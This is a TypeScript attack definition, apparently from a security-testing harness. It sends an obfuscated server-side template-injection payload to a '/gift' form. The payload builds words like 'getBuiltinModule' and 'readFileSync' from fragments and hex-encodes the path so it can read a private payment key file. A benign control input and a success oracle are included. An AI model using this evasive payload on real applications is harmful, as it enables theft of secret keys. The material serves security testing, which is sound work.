import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** The same with every telling word glued together at run time. */
export const templateGiftObfuscated: Attack = defineAttack({
  id: 'template-gift-obfuscated',
  class: 'template-injection',
  title: 'The same with every telling word glued together at run time',
  cwe: 1336,
  capec: 242,
  technique: 'T1059.007',
  preconditions: ['the folder of the application is known'],

  steps: ({ visitor, witness }) => {
    const path = Buffer.from(`${witness.folder}/private/payment.key`).toString('hex')
    const message = `{{(g=>g['get'+'Built'+'inModule']('f'+'s')['read'+'FileSync'](Buffer.from('${path}','hex').toString()))(this['pro'+'cess'])}}`
    return visitor.form('/gift', { message })
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) => visitor.form('/gift', { message: 'Dear {{ name }}, 2 + 2 = 4, always.' }),
})
